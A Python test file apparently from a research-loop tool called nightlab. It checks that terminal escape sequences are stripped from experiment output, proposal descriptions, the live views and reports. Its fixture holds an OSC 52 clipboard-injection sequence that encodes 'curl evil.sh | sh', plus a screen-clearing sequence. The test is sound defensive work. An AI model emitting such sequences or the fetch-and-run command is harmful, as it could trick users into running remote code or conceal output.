"""Escape sequences in what an experiment prints or what a proposal says never reach a terminal or a report.

A proposal's description and an experiment's output are written by code nobody reviewed; printed raw, an
OSC 52 sequence sets the clipboard and a clear-screen hides what nightlab printed before. The live view (plain
and rich) and `nightlab report` show the words without them.
"""

from __future__ import annotations

from io import StringIO

from rich.console import Console

from nightlab.research.journal import Journal
from nightlab.research.live import LiveView, PlainView
from nightlab.research.loop import ResearchLoop, RunOptions
from nightlab.research.report import build_report
from nightlab.research.state import LoopState
from tests.research.loop_workspace import make_workspace, replace_block

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" into the clipboard
CLEAR = "\x1b[2J\x1b[H"
DRAWN = ("\x1b]52", "\x1b[2J", "\x07")
LOUD = replace_block(
    "SEED = 42",
    f"SEED = 43\nprint({CLIPBOARD + CLEAR + 'loud'!r})",
    description=f"{CLIPBOARD}{CLEAR}a loud change",
)
CRASH = replace_block(
    "def main() -> None:",
    f"def main() -> None:\n    raise SystemExit({CLEAR + 'bye' + CLIPBOARD!r})",
    description=f"crash{CLEAR}",
)


def _clean(text: str) -> bool:
    return not any(sequence in text for sequence in DRAWN)


def test_escape_sequences_reach_neither_the_views_nor_the_report(tmp_path):
    root = make_workspace(
        tmp_path,
        config={"decide": {"baseline_runs": 2}, "experiment": {"heldout": None}},
        patches={"1.md": LOUD, "2.md": CRASH},
    )
    console = Console(file=StringIO(), width=300)
    ResearchLoop(root, RunOptions(tag="loud", proposer="replay"), observer=PlainView(console)).run_loop()
    journal = Journal.for_workspace(root)
    rows = journal.experiments(journal.find_run("loud").id)
    journal.close()
    loud, crash = rows[-2], rows[-1]
    assert CLIPBOARD in loud.description and loud.decision == "discard" and crash.decision == "crash"
    shown = console.file.getvalue()
    assert _clean(shown) and "a loud change" in shown and "#4 crash" in shown, shown
    assert "\x1b" not in shown
    text = build_report(root, "loud", tmp_path / "report").report.read_text()
    assert "a loud change" in text and "\x1b" not in text and "\x07" not in text

    live_console = Console(file=StringIO(), force_terminal=True, width=300)
    live = LiveView(live_console)
    live.phase_started(3, loud.description, "train", 5.0)
    live.output(CLIPBOARD + CLEAR + "loud")
    live_console.print(live.__rich__())
    live.experiment_finished(loud, LoopState(metric_name="loss"))
    live.message(f"the proposer said {CLIPBOARD}")
    drawn = live_console.file.getvalue()
    assert _clean(drawn) and "a loud change" in drawn and "loud" in drawn
